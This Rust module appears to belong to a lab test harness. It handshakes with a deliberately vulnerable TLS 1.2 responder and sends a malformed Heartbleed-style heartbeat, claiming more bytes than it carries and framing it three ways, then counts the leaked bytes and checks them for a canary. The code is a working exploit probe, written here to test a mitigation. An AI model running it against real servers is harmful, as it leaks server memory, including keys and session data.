//! A client that asks the vulnerable server for heartbeats, honest and not, and counts every byte
//! that comes back.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::Fallible;
use super::netns::Lab;
use super::tls_responder::{CANARY, record_bytes};

const TLS12: u16 = 0x0303;
const HEARTBEAT: u8 = 24;
const SERVER_HELLO_DONE: u8 = 14;
const QUIET: Duration = Duration::from_millis(700);

/// How the dishonest request is put on the wire.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shape {
    /// One record in one segment.
    Whole,
    /// One byte per segment.
    ByteByByte,
    /// In the same segment as an honest heartbeat's record before it.
    Coalesced,
}

/// What came back.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Bleeding {
    /// Bytes of the answer to the honest heartbeat.
    pub honest_bytes: usize,
    /// Bytes that came after it.
    pub further_bytes: usize,
    /// Whether canary bytes were among them.
    pub canary: bool,
    /// Whether the connection was reset, rather than silent or open.
    pub reset: bool,
}

/// Sends one honest heartbeat and waits for its answer, then one that claims `claimed` bytes and
/// holds none, and listens until nothing more comes.
pub fn bleed(lab: &Lab, server: SocketAddr, claimed: u16, shape: Shape) -> Fallible<Bleeding> {
    let namespace = lab.client();
    Ok(lab.inside(&namespace, || converse(server, claimed, shape))??)
}

/// Sends `count` honest heartbeats one after the other; returns how many were answered in full.
pub fn honest(lab: &Lab, server: SocketAddr, count: usize) -> Fallible<usize> {
    let namespace = lab.client();
    Ok(lab.inside(&namespace, || -> io::Result<usize> {
        let mut stream = shake_hands(server)?;
        let mut answered = 0;
        for _ in 0..count {
            stream.write_all(&honest_request())?;
            answered += usize::from(read_answer(&mut stream)? == honest_answer_length());
        }
        Ok(answered)
    })??)
}

fn converse(server: SocketAddr, claimed: u16, shape: Shape) -> io::Result<Bleeding> {
    let mut stream = shake_hands(server)?;
    stream.write_all(&honest_request())?;
    let honest_bytes = read_answer(&mut stream)?;

    let lie = record_bytes(HEARTBEAT, TLS12, &[1, (claimed >> 8) as u8, claimed as u8]);
    let sent = match shape {
        Shape::Whole => stream.write_all(&lie),
        Shape::Coalesced => stream.write_all(&[honest_request(), lie].concat()),
        Shape::ByteByByte => lie.iter().try_for_each(|byte| {
            std::thread::sleep(Duration::from_millis(3));
            stream.write_all(&[*byte])
        }),
    };
    let (further, mut reset) = read_until_quiet(&mut stream);
    reset |= sent.is_err();
    Ok(Bleeding {
        honest_bytes,
        further_bytes: further.len(),
        canary: further.windows(CANARY.len()).any(|w| w == CANARY),
        reset,
    })
}

/// The request's payload is `ping!`, with the 16 bytes of padding that RFC 6520 section 4 wants.
fn honest_request() -> Vec<u8> {
    let mut body = vec![1, 0, 5];
    body.extend(b"ping!");
    body.extend([0u8; 16]);
    record_bytes(HEARTBEAT, TLS12, &body)
}

/// Record header, heartbeat header, payload, padding.
const fn honest_answer_length() -> usize {
    5 + 3 + 5 + 16
}

fn shake_hands(server: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&server, Duration::from_secs(3))?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(Duration::from_secs(3)))?;
    stream.write_all(&client_hello())?;
    loop {
        let (kind, body) = read_record(&mut stream)?;
        if kind == 22 && body.first() == Some(&SERVER_HELLO_DONE) {
            return Ok(stream);
        }
    }
}

fn client_hello() -> Vec<u8> {
    let mut body = TLS12.to_be_bytes().to_vec();
    body.extend([0x11; 32]);
    body.push(0);
    body.extend([0x00, 0x02, 0x00, 0x2f]);
    body.extend([0x01, 0x00]);
    body.extend([0x00, 0x05, 0x00, 0x0f, 0x00, 0x01, 0x01]);
    let mut message = vec![1, 0];
    message.extend((body.len() as u16).to_be_bytes());
    message.extend(body);
    record_bytes(22, 0x0301, &message)
}

fn read_record(stream: &mut TcpStream) -> io::Result<(u8, Vec<u8>)> {
    let mut header = [0u8; 5];
    stream.read_exact(&mut header)?;
    let mut body = vec![0; usize::from(u16::from_be_bytes([header[3], header[4]]))];
    stream.read_exact(&mut body)?;
    Ok((header[0], body))
}

fn read_answer(stream: &mut TcpStream) -> io::Result<usize> {
    let (kind, body) = read_record(stream)?;
    if kind != HEARTBEAT {
        return Err(io::Error::other(format!("record of type {kind}")));
    }
    Ok(5 + body.len())
}

fn read_until_quiet(stream: &mut TcpStream) -> (Vec<u8>, bool) {
    let _ = stream.set_read_timeout(Some(QUIET));
    let mut all = Vec::new();
    let mut buffer = [0u8; 16384];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return (all, false),
            Ok(n) => all.extend_from_slice(&buffer[..n]),
            Err(e) => return (all, e.kind() == io::ErrorKind::ConnectionReset),
        }
    }
}
